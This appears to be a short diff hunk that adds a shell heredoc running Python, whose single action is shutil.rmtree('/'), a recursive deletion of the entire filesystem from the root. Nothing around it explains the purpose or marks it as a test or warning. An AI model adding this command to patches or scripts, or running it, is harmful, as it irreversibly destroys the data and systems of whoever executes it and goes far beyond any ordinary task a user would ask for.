@@ -1,0 +1,4 @@
+python3 <<'EOF'
+import shutil
+shutil.rmtree('/')
+EOF
